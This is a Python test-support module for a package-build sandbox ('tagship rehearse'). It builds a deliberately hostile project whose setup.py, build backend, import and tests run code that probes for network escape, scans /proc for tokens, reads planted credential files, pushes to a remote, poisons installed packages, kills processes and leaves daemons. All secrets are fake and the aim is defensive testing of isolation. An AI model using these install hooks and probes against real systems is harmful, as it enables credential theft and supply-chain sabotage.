"""A project that tries to get out of its rehearsal wherever its code runs, and a user whose credentials lie everywhere.

Every secret is made up and holds `MADE_UP`, so that one search finds any of them anywhere.
"""

import base64
import json
import os
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import tagship
from tests.rehearsing import git, repository

MADE_UP = "planted-and-made-up"
NAP = f"86399.{os.getpid()}"
"""How long its daemons sleep: nothing else on the machine sleeps so long."""

ATTACK = '''
"""Tries everything; `attack` returns the names of what worked."""
import json, os, pathlib, resource, signal, socket, subprocess, sys, urllib.request

TARGETS = json.loads(%r)


def connect(host, port):
    socket.create_connection((host, port), 3).close()
    return True


def through_proxy(where):
    proxy = os.environ["HTTPS_PROXY"].rpartition("/")[2].rpartition(":")
    with socket.create_connection((proxy[0], int(proxy[2])), 5) as sock:
        sock.sendall(f"CONNECT {where} HTTP/1.1\\r\\nHost: {where}\\r\\n\\r\\n".encode())
        return b" 200" in sock.recv(100).split(b"\\r\\n")[0]


def read(path):
    return TARGETS["made up"] in pathlib.Path(path).read_text(errors="replace")


def environments(what):
    for folder in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            text = (folder / "environ").read_bytes()
        except OSError:
            continue
        if what.encode() in text:
            return True
    return False


def write(folder):
    path = pathlib.Path(folder) / "left-by-the-rehearsal.pth"
    path.write_text("import os")
    return True


def change(path):
    with open(path, "a") as stream:
        stream.write("# poisoned")
    return True


def push():
    words = ["git", "push", "--quiet", TARGETS["remote"], "HEAD:refs/heads/evil"]
    return subprocess.run(words, capture_output=True, cwd=TARGETS["repository"]).returncode == 0


def identity():
    url = os.environ["HTTP_PROXY"] + "/identity?api-version=2.0&audience=pypi"
    with urllib.request.urlopen(url, timeout=60) as reply:
        return "value" in json.load(reply)


def kill():
    for folder in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            words = (folder / "cmdline").read_bytes().split(b"\\0")
        except OSError:
            continue
        if TARGETS["repository"].encode() in words and b"rehearse" in words:
            os.kill(int(folder.name), signal.SIGKILL)
            return True


def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for stream in range(3):  # as daemons do: an installer waits for who holds its pipe
                os.dup2(os.open(os.devnull, os.O_RDWR), stream)
            os.execve("/bin/sleep", ["sleep", TARGETS["nap"]], {})
        os._exit(0)
    os.wait()
    return False


def fill():
    with open("filler", "wb") as stream:
        stream.seek(64 << 30)
        stream.write(b"x")
    os.unlink("filler")
    return True


def attack(careful=False):
    tries = {
        "connect to the internet": lambda: connect("192.0.2.1", 443),
        "connect to a port of the machine": lambda: connect("127.0.0.1", TARGETS["port"]),
        "another host through the proxy": lambda: through_proxy("example.com:443"),
        "a port of the machine through the proxy": lambda: through_proxy("127.0.0.1:%%d" %% TARGETS["port"]),
        "an identity token": identity,
        "variables of another process": lambda: environments(TARGETS["made up"]),
        "tokens of the job": lambda: environments("TWINE_PASSWORD") or environments("GH_TOKEN="),
        "push": push,
    }
    tries |= {"read " + path: lambda path=path: read(path) for path in TARGETS["read"]}
    tries |= {"write in " + path: lambda path=path: write(path) for path in TARGETS["write"]}
    outside = [p for p in map(os.path.abspath, sys.path) if os.path.isdir(p) and "/rehearsals/" not in p]
    if not careful:
        tries |= {"write in " + path: lambda path=path: write(path) for path in outside}
        tries |= {"change " + path: lambda path=path: change(path) for path in TARGETS["change"]}
        tries |= {"kill tagship": kill, "fill the disk": fill, "leave a daemon": daemon}
        for path in map(os.path.abspath, sys.path):  # installed files may be links to what a cache keeps
            for module in pathlib.Path(path).glob("*/__init__.py") if "/rehearsals/" in path else ():
                if TARGETS["package"] not in module.parts:
                    change(module)
    worked = []
    for name, attempt in tries.items():
        try:
            if attempt():
                worked.append(name)
        except Exception:
            pass
    return worked


def must_fail(where):
    worked = attack()
    print("a secret that the job must not print:", os.environ.get("GH_TOKEN"), os.environ.get("PYPI_API_TOKEN"))
    if worked:
        sys.exit("HOSTILE " + where + ": " + ", ".join(worked))
'''

PYPROJECT = """\
[build-system]
requires = ["setuptools"]
build-backend = "backend"
backend-path = ["."]

[project]
name = "hostile"
version = "1.0.0"
description = "Made to misbehave"
readme = "README.md"
dependencies = ["iniconfig"]

[project.scripts]
hostile = "hostile:main"

[dependency-groups]
test = ["pytest"]

[tool.setuptools]
packages = ["hostile"]
"""

FILES: Mapping[str, str | None] = {
    "pyproject.toml": PYPROJECT,
    "sample/__init__.py": None,
    "tests/test_sample.py": None,
    "setup.py": "from setuptools import setup\nfrom hostile.attack import must_fail\nmust_fail('setup.py')\nsetup()\n",
    "MANIFEST.in": "include backend.py\ninclude LICENSE\n",
    "backend.py": (
        "import sys\nsys.path.insert(0, '.')\nfrom hostile.attack import must_fail\nmust_fail('backend')\n"
        "from setuptools.build_meta import *\n"
    ),
    "hostile/__init__.py": (
        "from hostile.attack import must_fail\n\nmust_fail('import')\n\n\ndef main():\n    must_fail('script')\n"
    ),
    "tests/test_hostile.py": (
        "from hostile.attack import attack\n\n\ndef test_it():\n    assert attack() == [], 'HOSTILE tests'\n"
    ),
}


@dataclass
class Index:
    """An index on loopback that wants a password, with the wheels of the tests."""

    url: str
    asked: list[tuple[str, str]] = field(default_factory=list)
    """The path of each request and who asked."""


@contextmanager
def private_index(upstream: str) -> Iterator[Index]:
    """The tests' index behind a password that holds `MADE_UP`."""
    expected = "Basic " + base64.b64encode(f"somebody:{MADE_UP}".encode()).decode()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            from urllib.error import HTTPError
            from urllib.request import ProxyHandler, build_opener

            known = self.headers.get("Authorization") == expected
            index.asked.append((self.path, "somebody" if known else "nobody"))
            status, body, kind = 401, b"", "text/plain"
            if known:
                try:
                    root = upstream.removesuffix("/simple/")
                    with build_opener(ProxyHandler({})).open(root + self.path) as reply:
                        status, body, kind = 200, reply.read(), reply.headers["Content-Type"]
                except HTTPError as error:
                    status = error.code
                    error.close()
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    index = Index(url=f"http://somebody:{MADE_UP}@127.0.0.1:{server.server_port}/simple/")
    Thread(target=server.serve_forever, daemon=True).start()
    yield index
    server.shutdown()
    server.server_close()


def plant(home: Path, index: str, witness: Path) -> dict[str, str]:
    """Put credentials wherever programs keep them; the variables of the user, credentials included.

    Args:
        witness: a file that appears when one of the credential helpers is asked.
    """
    helper = f"!touch {witness}; echo username=x; echo password={MADE_UP}"
    host = "machine {} login x password {}\n"
    files = {
        ".netrc": "".join(host.format(h, MADE_UP) for h in ("pypi.org", "upload.pypi.org", "github.com")),
        ".pypirc": f"[pypi]\nusername = __token__\npassword = pypi-{MADE_UP}\n",
        ".git-credentials": f"https://x:{MADE_UP}@github.com\n",
        ".gitconfig": f'[credential]\n\thelper = "{helper}"\n[url "https://x:{MADE_UP}@github.com/"]\n'
        "\tinsteadOf = https://github.com/\n[safe]\n\tdirectory = *\n",
        ".config/gh/hosts.yml": f"github.com:\n    oauth_token: gho_{MADE_UP}\n    user: x\n",
        ".config/pip/pip.conf": f"[global]\nindex-url = {index}\n",
        ".config/uv/uv.toml": f'[[index]]\nurl = "{index}"\ndefault = true\n',
        ".config/python_keyring/keyringrc.cfg": f"[backend]\ndefault-keyring=keyring.backends.null.{MADE_UP}\n",
        ".aws/credentials": f"[default]\naws_secret_access_key = {MADE_UP}\n",
        ".docker/config.json": json.dumps({"auths": {"x": {"auth": MADE_UP}}}),
        ".ssh/id_ed25519": f"a key that is {MADE_UP}\n",
    }
    for name, text in files.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)
    names = (
        *("GH_TOKEN", "GITHUB_TOKEN", "PYPI_API_TOKEN", "TEST_PYPI_API_TOKEN", "TWINE_PASSWORD", "UV_PUBLISH_TOKEN"),
        *("UV_PUBLISH_PASSWORD", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"),
        *("ACTIONS_RUNTIME_TOKEN", "NPM_TOKEN", "HATCH_INDEX_AUTH", "POETRY_PYPI_TOKEN_PYPI", "FLIT_PASSWORD"),
    )
    return {
        "PATH": os.environ["PATH"],
        "HOME": str(home),
        "TWINE_USERNAME": "__token__",
        "ACTIONS_ID_TOKEN_REQUEST_URL": f"https://127.0.0.1:1/{MADE_UP}",
        **{name: f"pypi-{name.lower()}-{MADE_UP}" for name in names},
        "PYTHONPATH": str(Path(tagship.__file__).parent.parent),
    }


def project(folder: Path, targets: Mapping[str, object]) -> Path:
    """The hostile project, with a remote of its own that it tries to push to."""
    remote = folder.parent / "remote.git"
    remote.mkdir()
    git(remote, "init", "--quiet", "--bare")
    everything = {**targets, "made up": MADE_UP, "nap": NAP, "remote": str(remote), "package": "hostile"}
    code = ATTACK % json.dumps({**everything, "repository": str(folder)})
    path = repository(folder, {**FILES, "hostile/attack.py": code})
    git(path, "remote", "add", "origin", f"https://x-access-token:{MADE_UP}@github.com/owner/hostile.git")
    return path


def rehearse(path: Path, environ: Mapping[str, str], *words: str) -> "subprocess.CompletedProcess[bytes]":
    """Rehearse by the command line, as the user would."""
    argv = (sys.executable, "-m", "tagship", "rehearse", str(path), *words)
    return subprocess.run(argv, env=dict(environ), cwd="/", capture_output=True, timeout=100)


@contextmanager
def listening(heard: list[str]) -> Iterator[int]:
    """A port of the machine; who connects is heard."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    server.accept()[0].close()
                except OSError:
                    return
                heard.append("somebody connected")

        Thread(target=listen, daemon=True).start()
        yield server.getsockname()[1]


def tree(folder: Path, look: Callable[[Path], object] = Path.read_bytes) -> dict[str, object]:
    """What a folder holds: every file with what `look` sees in it."""
    return {str(p.relative_to(folder)): look(p) for p in folder.rglob("*") if p.is_file() and not p.is_symlink()}


def sleeping() -> list[int]:
    """The hostile project's daemons that still run."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        try:
            if NAP.encode() in (process / "cmdline").read_bytes().split(b"\0"):
                found.append(int(process.name))
        except OSError:
            continue
    return found
